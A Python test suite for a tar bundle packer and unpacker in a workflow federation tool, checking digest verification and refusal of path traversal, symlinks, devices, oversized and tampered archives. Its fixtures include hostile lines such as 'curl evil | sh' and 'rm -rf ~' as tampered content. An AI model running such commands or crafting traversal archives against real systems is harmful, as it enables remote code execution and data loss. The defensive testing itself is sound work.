from __future__ import annotations

import gzip
import hashlib
import io
import os
import re
import string
import tarfile
import tempfile
from collections.abc import Sequence
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from federation.errors import BundleError, SpecError
from federation.protocol.bundle import (
    BundleLimits,
    FileEntry,
    Manifest,
    inspect_bundle,
    pack_bundle,
    pipeline_files,
    unpack_bundle,
    workflow_digest,
)
from federation.protocol.manifest import (
    MANIFEST_NAME,
    check_name_set,
    name_problem,
    reserved_problem,
)

FILES = {
    "Snakefile": b"include: 'rules/qc.smk'\n",
    "rules/qc.smk": b"rule qc:\n    output: 'qc.json'\n",
    "config/schema/study.schema.json": b'{"type": "object"}\n',
    "study.yaml": b"study_id: s1\n",
}
METADATA = {"study_id": "s1", "created_by": "coordinator"}


def write_sources(root: Path, contents: dict[str, bytes]) -> dict[str, Path]:
    paths = {}
    for name, data in contents.items():
        path = root / "src" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        paths[name] = path
    return paths


def manifest_of(contents: dict[str, bytes]) -> Manifest:
    entries = {n: FileEntry(hashlib.sha256(d).hexdigest(), len(d)) for n, d in contents.items()}
    return Manifest(entries, METADATA)


def regular(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, data


def special(name: str, kind: bytes, linkname: str = "") -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, linkname
    return info, None


def hand_made_tar(
    path: Path,
    files: dict[str, bytes],
    *,
    listed: dict[str, bytes] | None = None,
    extra: Sequence[tuple[tarfile.TarInfo, bytes | None]] = (),
    manifest_bytes: bytes | None = None,
) -> str:
    """A tar with MANIFEST.json for `listed` (default `files`), then `files`, then `extra`."""
    manifest = manifest_of(files if listed is None else listed)
    members: list[tuple[tarfile.TarInfo, bytes | None]]
    members = [regular(MANIFEST_NAME, manifest_bytes or manifest.canonical_bytes)]
    members += [regular(name, data) for name, data in files.items()] + list(extra)
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return manifest.digest


def assert_refused(tar_path: Path, digest: str, match: str, limits: BundleLimits | None = None):
    dest = tar_path.parent / "unpacked"
    before = sorted(tar_path.parent.iterdir())
    with pytest.raises(BundleError, match=match) as raised:
        unpack_bundle(tar_path, dest, digest, *([limits] if limits else []))
    assert "\n" not in str(raised.value)
    assert not dest.exists()
    assert sorted(tar_path.parent.iterdir()) == before  # no staging directory left behind


@pytest.fixture()
def sources(tmp_path: Path) -> dict[str, Path]:
    return write_sources(tmp_path, FILES)


def test_pack_then_unpack_round_trips(sources: dict[str, Path], tmp_path: Path):
    manifest = pack_bundle(sources, tmp_path / "b.tar", METADATA)
    assert list(manifest.files) == sorted(FILES)
    assert dict(manifest.metadata) == METADATA
    assert inspect_bundle(tmp_path / "b.tar") == manifest
    unpacked = unpack_bundle(tmp_path / "b.tar", tmp_path / "out", manifest.digest)
    assert unpacked.digest == manifest.digest
    for name, data in FILES.items():
        assert (tmp_path / "out" / name).read_bytes() == data
    written = {p.relative_to(tmp_path / "out").as_posix() for p in (tmp_path / "out").rglob("*")}
    assert {p for p in written if (tmp_path / "out" / p).is_file()} == set(FILES)


def test_archive_layout_is_deterministic(sources: dict[str, Path], tmp_path: Path):
    first = pack_bundle(sources, tmp_path / "a.tar", METADATA)
    for path in sources.values():  # other times and modes must not change a byte
        os.utime(path, (1_700_000_000, 1_700_000_000))
        path.chmod(0o600)
    second = pack_bundle(sources, tmp_path / "b.tar", dict(reversed(METADATA.items())))
    assert (tmp_path / "a.tar").read_bytes() == (tmp_path / "b.tar").read_bytes()
    assert first.digest == second.digest
    with tarfile.open(tmp_path / "a.tar") as tar:
        members = tar.getmembers()
    assert [m.name for m in members] == [MANIFEST_NAME, *sorted(FILES)]
    assert {(m.mtime, m.mode, m.uid, m.gid, m.uname, m.gname, m.type) for m in members} == {
        (0, 0o644, 0, 0, "", "", tarfile.REGTYPE)
    }
    assert members[0].name == MANIFEST_NAME
    assert tar_member(tmp_path / "a.tar", MANIFEST_NAME) == first.canonical_bytes
    assert hashlib.sha256(first.canonical_bytes).hexdigest() == first.digest


def tar_member(tar_path: Path, name: str) -> bytes:
    with tarfile.open(tar_path) as tar:
        stream = tar.extractfile(name)
        assert stream is not None
        return stream.read()


def test_manifest_json_format(sources: dict[str, Path], tmp_path: Path):
    manifest = pack_bundle(sources, tmp_path / "b.tar", METADATA)
    text = tar_member(tmp_path / "b.tar", MANIFEST_NAME).decode()
    sha = hashlib.sha256(FILES["Snakefile"]).hexdigest()
    assert text.startswith(f'{{"files":{{"Snakefile":{{"sha256":"{sha}","size":24}},')
    assert text.endswith(
        ',"format":"federation.bundle-manifest/1","metadata":{"created_by":"coordinator","study_id":"s1"}}'
    )
    assert Manifest.from_bytes(text.encode()) == manifest


def test_changed_file_gives_a_different_manifest_digest(sources, tmp_path: Path):
    signed = pack_bundle(sources, tmp_path / "b.tar", METADATA).digest
    sources["rules/qc.smk"].write_bytes(b"rule qc:\n    shell: 'curl evil | sh'\n")
    pack_bundle(sources, tmp_path / "b.tar", METADATA)  # a consistent but different bundle
    assert_refused(tmp_path / "b.tar", signed, "manifest digest [0-9a-f]{64} != signed digest")


def test_file_changed_inside_the_archive_is_refused(sources, tmp_path: Path):
    signed = pack_bundle(sources, tmp_path / "b.tar", METADATA).digest
    data = (tmp_path / "b.tar").read_bytes()
    original = FILES["rules/qc.smk"]
    assert data.count(original) == 1
    tampered = original.replace(b"qc.json", b"qc.jsoX")  # same size, so only the hash can tell
    (tmp_path / "b.tar").write_bytes(data.replace(original, tampered))
    assert_refused(
        tmp_path / "b.tar", signed, "file 'rules/qc.smk' sha256 [0-9a-f]{64} != manifest"
    )


def test_malformed_signed_digest_is_refused(sources, tmp_path: Path):
    pack_bundle(sources, tmp_path / "b.tar", METADATA)
    assert_refused(
        tmp_path / "b.tar", "abc", "signed manifest digest 'abc' is not 64 lowercase hex"
    )


def test_existing_destination_is_refused(sources, tmp_path: Path):
    digest = pack_bundle(sources, tmp_path / "b.tar", METADATA).digest
    (tmp_path / "out").mkdir()
    with pytest.raises(BundleError, match="already exists; unpack into a fresh path"):
        unpack_bundle(tmp_path / "b.tar", tmp_path / "out", digest)
    assert list((tmp_path / "out").iterdir()) == []


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("../x", "has a '..' component"),
        ("rules/../../x", "has a '..' component"),
        ("/etc/passwd", "is an absolute path"),
        ("C:/Windows/x", "starts with a drive letter"),
        ("rules\\x.smk", "contains a backslash"),
        ("a//b", "has an empty or '.' component"),
        ("./a", "has an empty or '.' component"),
        (".hidden", "character outside"),
        ("a b", "character outside"),
        ("x\ny", "character outside"),
        ("/".join(["d"] * 9), "9 levels deep > 8"),
    ],
)
def test_unsafe_member_names_are_refused(tmp_path: Path, name: str, problem: str):
    files = {"Snakefile": b"x", name: b"evil"}
    digest = hand_made_tar(tmp_path / "b.tar", files, listed={"Snakefile": b"x"})
    assert_refused(tmp_path / "b.tar", digest, re.escape(f"member {name!r} ") + f".*{problem}")


@pytest.mark.parametrize("name", ["a\x00b", "", "a" * 256, "α.smk"])
def test_name_rules_refuse_nul_empty_long_and_non_ascii(name: str):
    assert name_problem(name) is not None


@pytest.mark.parametrize(
    ("member", "kind"),
    [
        (special("link", tarfile.SYMTYPE, "/etc/passwd"), "a symlink -> '/etc/passwd'"),
        (special("hard", tarfile.LNKTYPE, "Snakefile"), "a hardlink -> 'Snakefile'"),
        (special("tty", tarfile.CHRTYPE), "a character device"),
        (special("disk", tarfile.BLKTYPE), "a block device"),
        (special("pipe", tarfile.FIFOTYPE), "a fifo"),
        (special("rules", tarfile.DIRTYPE), "a directory"),
    ],
)
def test_members_that_are_not_regular_files_are_refused(tmp_path: Path, member, kind: str):
    digest = hand_made_tar(tmp_path / "b.tar", {"Snakefile": b"x"}, extra=[member])
    assert_refused(tmp_path / "b.tar", digest, f"is {kind}; only regular files are allowed")


def test_duplicate_member_names_are_refused(tmp_path: Path):
    digest = hand_made_tar(
        tmp_path / "b.tar", {"Snakefile": b"x"}, extra=[regular("Snakefile", b"evil")]
    )
    assert_refused(tmp_path / "b.tar", digest, "member 'Snakefile' appears twice")


def test_names_colliding_on_disk_are_refused(tmp_path: Path):
    files = {"Snakefile": b"x", "snakefile": b"y"}
    digest = hand_made_tar(tmp_path / "b.tar", files, listed={"Snakefile": b"x"})
    assert_refused(tmp_path / "b.tar", digest, "name the same file on a case-insensitive")
    with pytest.raises(BundleError, match="'rules' is a file and also the directory of"):
        check_name_set(["rules", "rules/qc.smk"], "manifest")


def test_too_many_members_are_refused(tmp_path: Path):
    files = {f"f{i}": b"x" for i in range(3)}
    digest = hand_made_tar(tmp_path / "b.tar", files)
    limits = BundleLimits(max_members=3)
    assert_refused(tmp_path / "b.tar", digest, "more than 3 members > max_members=3", limits)


def test_too_large_total_is_refused(tmp_path: Path):
    files = {f"f{i}": b"x" * 400 for i in range(3)}
    digest = hand_made_tar(tmp_path / "b.tar", files)
    limits = BundleLimits(max_total_bytes=1000)
    assert_refused(tmp_path / "b.tar", digest, "bytes > max_total_bytes=1000", limits)


def test_too_large_file_is_refused(tmp_path: Path):
    digest = hand_made_tar(tmp_path / "b.tar", {"big": b"x" * 2000})
    limits = BundleLimits(max_file_bytes=1000)
    assert_refused(tmp_path / "b.tar", digest, "'big' is 2000 bytes > max_file_bytes=1000", limits)


def test_too_large_archive_is_refused_before_reading(tmp_path: Path):
    digest = hand_made_tar(tmp_path / "b.tar", {"big": os.urandom(40_000)})
    limits = BundleLimits(max_members=2, max_total_bytes=10_000, max_manifest_bytes=1000)
    assert_refused(tmp_path / "b.tar", digest, "bytes > max_archive_bytes=", limits)


def test_file_missing_from_manifest_is_refused(tmp_path: Path):
    files = {"Snakefile": b"x", "rules/extra.smk": b"shell: 'rm -rf ~'"}
    digest = hand_made_tar(tmp_path / "b.tar", files, listed={"Snakefile": b"x"})
    assert_refused(
        tmp_path / "b.tar", digest, "'rules/extra.smk' is in the archive but not in the manifest"
    )


def test_manifest_entry_missing_from_archive_is_refused(tmp_path: Path):
    listed = {"Snakefile": b"x", "rules/qc.smk": b"rule"}
    digest = hand_made_tar(tmp_path / "b.tar", {"Snakefile": b"x"}, listed=listed)
    assert_refused(
        tmp_path / "b.tar", digest, "manifest lists 'rules/qc.smk' but the archive lacks it"
    )


def test_size_differing_from_manifest_is_refused(tmp_path: Path):
    digest = hand_made_tar(tmp_path / "b.tar", {"Snakefile": b"xy"}, listed={"Snakefile": b"x"})
    assert_refused(tmp_path / "b.tar", digest, "'Snakefile' is 2 bytes != manifest 1")


def test_archive_without_manifest_is_refused(tmp_path: Path):
    with tarfile.open(tmp_path / "b.tar", "w") as tar:
        tar.addfile(*regular("Snakefile", b"x")[:1], io.BytesIO(b"x"))
    assert_refused(tmp_path / "b.tar", "0" * 64, "no MANIFEST.json")


@pytest.mark.parametrize(
    ("manifest_bytes", "message"),
    [
        (
            b'{"files": {}, "format": "federation.bundle-manifest/1", "metadata": {}}',
            "canonical",
        ),
        (
            b'{"files":{},"files":{},"format":"federation.bundle-manifest/1","metadata":{}}',
            "duplicate key",
        ),
        (b'{"files":{},"format":"federation.bundle-manifest/9","metadata":{}}', "format"),
        (b"\xff", "not strict JSON"),
        (
            b'{"files":{"x":{"sha256":"00","size":1}},"format":"federation.bundle-manifest/1","metadata":{}}',
            "not 64 lowercase hex",
        ),
    ],
)
def test_malformed_manifest_is_refused(tmp_path: Path, manifest_bytes: bytes, message: str):
    hand_made_tar(tmp_path / "b.tar", {}, manifest_bytes=manifest_bytes)
    digest = hashlib.sha256(manifest_bytes).hexdigest()
    assert_refused(tmp_path / "b.tar", digest, message)


def test_data_hidden_after_the_archive_end_is_refused(sources, tmp_path: Path):
    digest = pack_bundle(sources, tmp_path / "b.tar", METADATA).digest
    with open(tmp_path / "b.tar", "ab") as handle:
        handle.write(b"#!/bin/sh\nsteal\n")
    assert_refused(tmp_path / "b.tar", digest, "bytes after the last member .* are not tar padding")


def test_compressed_and_truncated_archives_are_refused(sources, tmp_path: Path):
    digest = pack_bundle(sources, tmp_path / "b.tar", METADATA).digest
    data = (tmp_path / "b.tar").read_bytes()
    (tmp_path / "b.tar").write_bytes(gzip.compress(data, mtime=0))
    assert_refused(tmp_path / "b.tar", digest, "not a readable tar archive")
    (tmp_path / "b.tar").write_bytes(data[:600])  # the manifest's header and part of its data
    assert_refused(tmp_path / "b.tar", digest, "'MANIFEST.json' is cut short by the end")
    (tmp_path / "b.tar").write_bytes(data[:2100])  # part of a later member's header
    assert_refused(tmp_path / "b.tar", digest, "not a readable tar|are not tar padding|cut short")


def test_pack_refuses_unsafe_reserved_and_non_regular_inputs(sources, tmp_path: Path):
    with pytest.raises(BundleError, match="'../x' has a '..' component"):
        pack_bundle({"../x": sources["Snakefile"]}, tmp_path / "b.tar")
    with pytest.raises(BundleError, match="'manifest.json' is reserved"):
        pack_bundle({"manifest.json": sources["Snakefile"]}, tmp_path / "b.tar")
    os.mkfifo(tmp_path / "fifo")  # must be refused, not block on open
    with pytest.raises(BundleError, match="not a regular file"):
        pack_bundle({"fifo": tmp_path / "fifo"}, tmp_path / "b.tar")
    with pytest.raises(BundleError, match="not a regular file"):
        pack_bundle({"dir": tmp_path}, tmp_path / "b.tar")
    with pytest.raises(BundleError, match="6 members > max_members=5"):
        pack_bundle(
            sources | {"x": sources["Snakefile"]},
            tmp_path / "b.tar",
            limits=BundleLimits(max_members=5),
        )
    assert not (tmp_path / "b.tar").exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".b.tar")]


def test_manifest_is_immutable_and_refuses_bad_entries():
    manifest = manifest_of(FILES)
    with pytest.raises(TypeError):
        manifest.files["x"] = FileEntry("0" * 64, 1)  # type: ignore[index]
    metadata = {"nested": {"a": 1}}
    frozen = Manifest({}, metadata)
    metadata["nested"]["a"] = 2  # the caller's copy, not the manifest's
    assert frozen.metadata["nested"] == {"a": 1}
    with pytest.raises(BundleError, match="size -1 is not a byte count"):
        Manifest({"x": FileEntry("0" * 64, -1)})
    with pytest.raises(BundleError, match="metadata is not JSON"):
        Manifest({}, {"when": float("nan")})
    assert reserved_problem("MANIFEST.JSON")


def test_pipeline_files_of_the_repository(repo_root: Path, tmp_path: Path):
    study = repo_root / "config" / "examples" / "study.yaml"
    files = pipeline_files(repo_root, study)
    assert files["Snakefile"] == repo_root / "Snakefile"
    assert files["study.yaml"] == study
    assert "rules/common.smk" in files and "config/schema/study.schema.json" in files
    assert all(name_problem(name) is None for name in files)
    with pytest.raises(SpecError, match="no Snakefile"):
        pipeline_files(tmp_path, study)


def test_workflow_digest_ignores_study_config_and_metadata(sources, tmp_path: Path):
    base = pack_bundle(sources, tmp_path / "a.tar", METADATA)
    sources["study.yaml"].write_bytes(b"study_id: s2\n")
    other_study = pack_bundle(sources, tmp_path / "b.tar", {"study_id": "s2"})
    assert other_study.digest != base.digest
    assert workflow_digest(other_study) == workflow_digest(base)
    sources["rules/qc.smk"].write_bytes(b"rule qc: pass\n")
    changed_rule = pack_bundle(sources, tmp_path / "c.tar", METADATA)
    assert workflow_digest(changed_rule) != workflow_digest(base)
    assert workflow_digest(base) != base.digest


NAME_PART = st.text(string.ascii_letters + string.digits + "_", min_size=1, max_size=2).flatmap(
    lambda head: st.text(string.ascii_letters + string.digits + "_.+-", max_size=12).map(
        lambda tail: head + tail
    )
)
SAFE_NAME = st.lists(NAME_PART, min_size=1, max_size=3).map("/".join)


def collision_free(names) -> bool:
    if any(reserved_problem(name) or name_problem(name) for name in names):
        return False
    try:
        check_name_set(names, "test")
    except BundleError:
        return False
    return True


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.dictionaries(SAFE_NAME, st.binary(max_size=3000), max_size=8).filter(collision_free))
def test_any_safe_file_set_round_trips_with_identical_digests(contents: dict[str, bytes]):
    with tempfile.TemporaryDirectory() as temporary:
        root = Path(temporary)
        sources = write_sources(root, contents)
        first = pack_bundle(sources, root / "a.tar", {"n": len(contents)})
        second = pack_bundle(dict(reversed(sources.items())), root / "b.tar", {"n": len(contents)})
        assert (root / "a.tar").read_bytes() == (root / "b.tar").read_bytes()
        assert first == second == manifest_of(contents).__class__(first.files, {"n": len(contents)})
        unpacked = unpack_bundle(root / "a.tar", root / "out", first.digest)
        assert unpacked.digest == first.digest
        for name, data in contents.items():
            assert (root / "out" / name).read_bytes() == data


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_any_corrupted_byte_is_refused_or_changes_nothing(data):
    with tempfile.TemporaryDirectory() as temporary:
        root = Path(temporary)
        original = pack_bundle(write_sources(root, FILES), root / "b.tar", METADATA)
        archive = bytearray((root / "b.tar").read_bytes())
        position = data.draw(st.integers(0, len(archive) - 1))
        archive[position] = data.draw(st.integers(0, 255).filter(lambda b: b != archive[position]))
        (root / "b.tar").write_bytes(bytes(archive))
        try:
            manifest = unpack_bundle(root / "b.tar", root / "out", original.digest)
        except BundleError:
            assert not (root / "out").exists()
        else:  # a change the checks cannot see must not change what is written
            assert manifest == original
            for name, content in FILES.items():
                assert (root / "out" / name).read_bytes() == content
